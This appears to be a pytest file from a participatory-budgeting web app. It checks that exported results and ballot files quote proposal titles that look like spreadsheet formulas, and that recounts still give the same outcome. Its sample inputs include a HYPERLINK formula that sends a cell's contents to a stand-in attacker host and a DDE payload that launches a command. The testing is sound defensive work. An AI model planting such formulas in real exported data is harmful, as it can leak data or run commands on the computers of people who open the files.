"""The published files are safe to open in a spreadsheet, and the .pb file still re-counts to the same outcome.

A proposal titled like a spreadsheet formula must reach results.csv and ballots.pb as text starting
with ``'`` (OWASP CSV injection), while ids, amounts and votes stay as they were.
"""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from pb.domain.spreadsheet import needs_quote
from pb.extensions import db
from pb.models import CountResult, Proposal
from pb.tally import count, read_pabulib
from pb.tally.cli import FILE_RULES, TIE_BREAK
from tests.results.conftest import COSTS, publish, seed_round

EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_ROUND = "+1+cmd|' /C calc'!A0"
EVIL_AREA = "@SUM(A1:A9)"

RULES = {
    "greedy": dict(counting_rule="greedy"),
    "equal-shares": dict(counting_rule="equal-shares", completion="add1"),
}


def _published(app, **round_kw):
    """A published round whose project A has the formula title; (seeded, funded ids as strings)."""
    with app.app_context():
        s = seed_round(title=EVIL_ROUND, area_name=EVIL_AREA, **round_kw)
        db.session.get(Proposal, s.ids["A"]).title = EVIL_TITLE
        db.session.commit()
        publish(s)
        funded = [str(p) for p in db.session.query(CountResult).filter_by(round_id=s.round_id).one().funded]
    return s, funded


def _pb_file(client, tmp_path: Path, s) -> Path:
    response = client.get(f"/rounds/{s.round_id}/results/ballots.pb")
    assert response.status_code == 200
    path = tmp_path / f"round-{s.round_id}.pb"
    path.write_bytes(response.data)
    return path


def test_results_csv_quotes_a_formula_title_and_keeps_numbers(app, client):
    s, funded = _published(app)
    response = client.get(f"/rounds/{s.round_id}/results/results.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8"))))
    by_id = {int(r["project_id"]): r for r in rows}
    evil = by_id[s.ids["A"]]
    assert evil["title"] == "'" + EVIL_TITLE
    assert evil["title"].startswith("'=")
    # Number columns are untouched: still numbers a spreadsheet can add up.
    assert evil["cost_pounds"] == f"{COSTS['A'] / 100:.2f}"
    assert evil["score"] == "16" and evil["first_preferences"] == "4"
    assert [str(s.ids[letter]) for letter in "CA"] == funded
    assert by_id[s.ids["C"]]["title"] == "Community lunch club"
    for row in rows:
        for value in row.values():
            assert not needs_quote(value), value


@pytest.mark.parametrize("rule", list(RULES))
def test_pabulib_file_quotes_free_text_and_recounts_the_same(app, client, tmp_path, rule):
    s, funded = _published(app, **RULES[rule])
    path = _pb_file(client, tmp_path, s)

    data = read_pabulib(path)
    assert data.project_meta[str(s.ids["A"])]["name"] == "'" + EVIL_TITLE
    assert data.meta["description"] == "'" + EVIL_ROUND
    assert data.meta["unit"] == "'" + EVIL_AREA
    assert data.meta["budget"] == "10000" and data.meta["num_votes"] == "10"
    assert sorted(p.cost for p in data.election.projects) == sorted(c // 100 for c in COSTS.values())
    assert sorted(data.selected) == sorted(funded)  # the file lists projects in id order

    engine_rule, options = FILE_RULES[data.rule]
    if options.get("threshold", 0) is None:
        options = {**options, "threshold": data.threshold}
    outcome = count(data.election, engine_rule, satisfaction=data.satisfaction, tie_break=TIE_BREAK, **options)
    assert list(outcome.funded) == funded

    # No cell of the file can be taken for a formula.
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")), delimiter=";"):
        for value in row:
            assert not needs_quote(value), value


def test_pabutools_reads_the_quoted_file(app, client, tmp_path):
    from pabutools.election import parse_pabulib

    s, funded = _published(app)
    instance, profile = parse_pabulib(str(_pb_file(client, tmp_path, s)))
    assert instance.project_meta[next(p for p in instance if p.name == str(s.ids["A"]))]["name"] == "'" + EVIL_TITLE
    assert instance.meta["description"] == "'" + EVIL_ROUND
    assert int(instance.budget_limit) == 10_000 and len(instance) == 5
    assert profile.num_ballots() == 10
    assert {p.name for p in instance if instance.project_meta[p].get("selected") == "1"} == set(funded)


def test_ballots_csv_has_no_cell_a_spreadsheet_could_run(app, client):
    s, _ = _published(app)
    response = client.get(f"/rounds/{s.round_id}/results/ballots.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8"))))
    assert len(rows) == 11
    assert EVIL_TITLE not in response.data.decode("utf-8")
    for row in rows:
        for value in row:
            assert not needs_quote(value), value
